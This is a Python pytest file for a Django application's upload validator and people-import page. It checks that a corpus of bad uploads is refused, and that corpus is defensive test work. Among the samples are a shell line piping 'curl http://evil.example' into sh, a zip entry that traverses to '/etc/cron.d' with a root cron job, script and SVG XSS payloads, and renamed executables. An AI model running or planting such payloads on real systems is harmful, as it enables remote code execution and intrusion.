"""A corpus of bad uploads, all refused: by the reusable validator and by the people import."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from kakehashi.accounts import people_import
from kakehashi.accounts.models import PeopleImport
from kakehashi.core.testing.uploads import real_image
from kakehashi.privacy.uploads import validate_upload

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


PNG = real_image("PNG")
JPG = real_image("JPEG")


def zipped(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def real_xlsx() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(people_import.COLUMNS))
    sheet.append(["Bat Dorj", "Бат Дорж", "bat@example.org", "must-kosen", "student"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


DOCX = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
OFFICE = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}

# (name, content, why it must be refused)
CORPUS: list[tuple[str, bytes]] = [
    ("report.pdf", b"MZ\x90\x00" + b"\x00" * 100),  # a Windows program renamed
    ("people.xlsx", b"\x7fELF\x02\x01\x01" + b"\x00" * 100),  # a Linux program renamed
    ("people.csv", b"#!/bin/sh\ncurl http://evil.example | sh\n"),  # a script renamed
    ("photo.png", b"<html><script>alert(1)</script></html>"),  # HTML as an image
    ("photo.jpg", PNG),  # a PNG called JPEG
    ("letter.pdf", PNG),  # an image called PDF
    ("letter.pdf", PDF[:-7]),  # a truncated PDF
    ("letter.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50),  # a broken PDF without its end
    ("cv.docx", PDF),  # a PDF called Word
    ("cv.docx", real_xlsx()),  # an Excel file called Word
    ("people.xlsx", DOCX),  # a Word file called Excel
    ("people.xlsx", zipped({"readme.txt": b"hello"})),  # a zip that is no workbook
    ("people.xlsx", b"PK\x03\x04" + b"\xde\xad\xbe\xef" * 64),  # a broken zip
    ("people.xlsx", zipped({**OFFICE, "xl/worksheets/sheet1.xml": b"<a>" + b" " * 30_000_000 + b"</a>"})),
    ("people.xlsx", zipped({**OFFICE, **{f"xl/media/{i}.bin": b"x" for i in range(2100)}})),  # too many parts
    ("people.xlsx", zipped({**OFFICE, "../../etc/cron.d/evil": b"* * * * * root sh"})),  # path traversal
    ("people.xlsx", zipped({**OFFICE, "xl/vbaProject.bin": b"macro"})),  # macros
    ("empty.pdf", b""),
    ("setup.exe", b"MZ" + b"\x00" * 10),
    ("image.svg", b"<svg onload='alert(1)'/>"),
    ("page.html", b"<html></html>"),
    ("cv.pdf.exe", PDF),
    ("noextension", PDF),
    ("big.pdf", PDF[:-7] + b" " * (2 * 1024 * 1024) + b"%%EOF\n"),  # over the 2 MB limit used below
]
GOOD = [
    ("letter.pdf", PDF),
    ("photo.png", PNG),
    ("photo.jpeg", JPG),
    ("people.xlsx", real_xlsx()),
    ("cv.docx", DOCX),
]


@pytest.mark.parametrize(("name", "content"), CORPUS, ids=[f"{i}-{n}" for i, (n, _c) in enumerate(CORPUS)])
def test_the_validator_refuses_every_bad_upload(name, content):
    with pytest.raises(ValidationError) as refused:
        validate_upload(SimpleUploadedFile(name, content), max_bytes=2 * 1024 * 1024)
    assert refused.value.messages[0]


@pytest.mark.parametrize(("name", "content"), GOOD, ids=[n for n, _c in GOOD])
def test_the_validator_accepts_real_documents(name, content):
    assert validate_upload(SimpleUploadedFile(name, content)) == name.rsplit(".", 1)[1].replace("jpeg", "jpg")


def test_csv_is_checked_as_text_when_allowed():
    assert validate_upload(b"a,b\n1,2\n", allowed={"csv"}, name="x.csv") == "csv"
    for content in [b"a,b\x00\n", b"\xff\xfe\x00a", PDF]:
        with pytest.raises(ValidationError):
            validate_upload(content, allowed={"csv"}, name="x.csv")


def test_the_allowed_set_is_respected():
    with pytest.raises(ValidationError):
        validate_upload(SimpleUploadedFile("letter.pdf", PDF), allowed={"png"})


IMPORT_CORPUS = [
    (name, content)
    for name, content in CORPUS
    if name.endswith((".csv", ".xlsx", ".pdf", ".exe", ".svg", ".html", ".docx"))
]


@pytest.mark.parametrize(
    ("name", "content"), IMPORT_CORPUS, ids=[f"{i}-{n}" for i, (n, _c) in enumerate(IMPORT_CORPUS)]
)
def test_the_people_import_refuses_every_bad_upload(name, content):
    with pytest.raises(ValidationError):
        people_import.read_table(name, content)


@pytest.mark.django_db
def test_the_people_import_page_refuses_them_and_stores_nothing(client_as):
    client = client_as("teacher")
    before = PeopleImport.objects.count()
    for name, content in IMPORT_CORPUS:
        response = client.post("/people/import/", {"file": SimpleUploadedFile(name, content)})
        assert response.status_code == 200, name  # the form again, with the error
    assert PeopleImport.objects.count() == before


def test_report_how_many_uploads_were_refused(capsys):
    """The whole corpus at once, independent of which parametrized cases ran: every bad upload refused."""
    accepted = []
    for name, content in CORPUS:
        try:
            validate_upload(SimpleUploadedFile(name, content), max_bytes=2 * 1024 * 1024)
        except ValidationError:
            continue
        accepted.append(name)
    with capsys.disabled():
        print(f"\nbad uploads: {len(CORPUS) - len(accepted)} of {len(CORPUS)} refused by validate_upload")
    assert len(CORPUS) >= 20  # the corpus is still there
    assert accepted == []
